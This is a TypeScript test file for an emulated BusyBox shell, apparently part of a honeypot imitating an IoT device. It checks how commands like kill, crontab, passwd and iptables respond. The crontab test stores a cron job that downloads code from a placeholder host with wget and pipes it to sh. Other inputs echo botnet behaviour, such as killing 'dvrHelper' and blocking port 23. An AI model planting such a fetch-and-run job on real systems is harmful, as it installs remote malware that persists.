// kill/killall/pkill, sleep, which, env, crontab, passwd, reboot, iptables and test/[.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHarness, runCommand } from '../../testing/command-harness.ts';

test('kill, killall and pkill succeed for persona processes and fail like the device otherwise', async () => {
  assert.equal((await runCommand(['kill', '-9', '402'])).status, 0);
  const missing = await runCommand(['kill', '99999']);
  assert.equal(missing.stderr, "kill: can't kill pid 99999: No such process\n");
  assert.equal((await runCommand(['kill'])).stderr, 'kill: you need to specify whom to kill\n');
  assert.equal((await runCommand(['kill', '-9', 'abc'])).stderr, "kill: invalid number 'abc'\n");
  assert.equal((await runCommand(['killall', '-9', 'telnetd'])).status, 0);
  const none = await runCommand(['killall', '-9', 'mips']);
  assert.equal(none.stderr, 'killall: mips: no process killed\n');
  assert.equal(none.status, 1);
  assert.equal((await runCommand(['pkill', '-9', '-f', 'telnetd'])).status, 0);
  const quiet = await runCommand(['pkill', 'dvrHelper']);
  assert.equal(quiet.stderr, '');
  assert.equal(quiet.status, 1);
});

test('sleep validates, returns quickly, and shows usage without arguments', async () => {
  const started = Date.now();
  assert.equal((await runCommand(['sleep', '60'])).status, 0);
  assert.ok(Date.now() - started < 1000);
  assert.equal((await runCommand(['sleep', 'abc'])).stderr, "sleep: invalid number 'abc'\n");
  assert.match((await runCommand(['sleep'])).stderr, /Usage: sleep \[N\]\.\.\./);
});

test('which finds files on PATH and persona applets', async () => {
  const r = await runCommand(['which', 'busybox', 'wget', 'nope']);
  assert.equal(r.stdout, '/bin/busybox\n/bin/wget\n');
  assert.equal(r.status, 1);
});

test('env prints exported variables', async () => {
  assert.match((await runCommand(['env'])).stdout, /^PATH=\/bin:\/sbin:\/usr\/bin:\/usr\/sbin\nHOME=\/root\n/);
});

test('crontab - stores stdin as the user crontab in the VFS; -l reads it back', async () => {
  const h = createHarness();
  assert.match((await h.run(['crontab', '-l'])).stderr, /^crontab: can't change directory to '\/var\/spool\/cron\/crontabs': No such file or directory\n$/);
  const job = '* * * * * wget -q -O- http://1.2.3.4/x | sh\n';
  assert.equal((await h.run(['crontab', '-'], { stdin: job })).status, 0);
  assert.equal(h.fs.isDirty('/var/spool/cron/crontabs/root'), true);
  assert.equal((await h.run(['crontab', '-l'])).stdout, job);
  await h.run(['crontab', '-r']);
  assert.equal(h.fs.stat('/var/spool/cron/crontabs/root'), null);
});

test('passwd: unchanged without input, changed with two matching lines', async () => {
  const none = await runCommand(['passwd']);
  assert.equal(none.stdout, 'Changing password for root\nNew password: \n');
  assert.equal(none.stderr, 'passwd: password for root is unchanged\n');
  assert.equal(none.status, 1);
  const ok = await runCommand(['passwd'], { stdin: 'p4ss\np4ss\n' });
  assert.equal(ok.stdout, 'Changing password for root\nNew password: \nRetype password: \npasswd: password for root changed by root\n');
  assert.equal(ok.status, 0);
});

test('reboot is silent and ends the session; iptables is silent', async () => {
  const h = createHarness();
  const r = await h.run(['reboot']);
  assert.equal(r.stdout + r.stderr, '');
  assert.equal(h.state.exitRequested, true);
  const ipt = await runCommand(['iptables', '-A', 'INPUT', '-p', 'tcp', '--dport', '23', '-j', 'DROP']);
  assert.equal(ipt.stdout + ipt.stderr, '');
  assert.equal(ipt.status, 0);
});

test('test and [ evaluate strings, numbers, files and report BusyBox errors', async () => {
  const status = async (argv: string[]): Promise<number> => (await runCommand(argv)).status;
  assert.equal(await status(['[', '-f', '/etc/passwd', ']']), 0);
  assert.equal(await status(['[', '-d', '/etc/passwd', ']']), 1);
  assert.equal(await status(['test', '-e', '/nope']), 1);
  assert.equal(await status(['test', '-x', '/bin/busybox']), 0);
  assert.equal(await status(['test', '-z', '']), 0);
  assert.equal(await status(['test', '-n', '']), 1);
  assert.equal(await status(['test', 'a', '=', 'a', '-a', '2', '-gt', '1']), 0);
  assert.equal(await status(['test', '!', 'a', '=', 'a', '-o', '1', '-eq', '2']), 1);
  assert.equal(await status(['[', '(', '1', '-lt', '2', ')', ']']), 0);
  assert.equal(await status(['test']), 1);
  const missing = await runCommand(['[', '1']);
  assert.equal(missing.stderr, '[: missing ]\n');
  assert.equal(missing.status, 2);
  assert.equal((await runCommand(['[', '1', '-eq', 'a', ']'])).stderr, '[: a: bad number\n');
  assert.equal((await runCommand(['test', '1', '-eq', '1', '2'])).stderr, 'test: 2: unknown operand\n');
});
